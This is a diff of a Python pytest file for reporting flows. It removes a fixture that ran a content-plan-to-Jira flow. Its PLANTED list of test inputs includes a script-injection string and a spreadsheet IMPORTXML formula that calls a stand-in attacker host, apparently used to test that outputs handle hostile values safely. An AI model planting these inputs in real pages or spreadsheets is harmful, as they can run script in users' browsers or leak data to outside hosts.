@@ -14,7 +14,6 @@ from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRun
 
 from flows import compare, rerun
 from flows.compare import compare_runs
-from flows.content_plan_to_jira import content_plan_to_jira
 from lib import explore, rows_file, run_folder, run_record, utility_tasks
 from lib.reconcile import Outcome
 from sandbox import seed
@@ -22,22 +21,6 @@ from tests.desk import HEADER, TAB
 
 pytestmark = pytest.mark.report
 PLANTED = ["<script>alert(1)</script>", '=IMPORTXML("http://evil.example.com")', "☕👨‍👩‍👧 jeda", "a" * 30_000]
-
-
-@pytest.fixture
-def run(services, tmp_path):
-    """Run the flow on the sandbox; its result."""
-
-    def go(**parameters):
-        given = {
-            "target_month": seed.MONTH,
-            "delay_seconds": (0, 0),
-            "output_dir": str(tmp_path / "output"),
-            **parameters,
-        }
-        return asyncio.run(content_plan_to_jira(**given))
-
-    return go
 
 
 @pytest.fixture
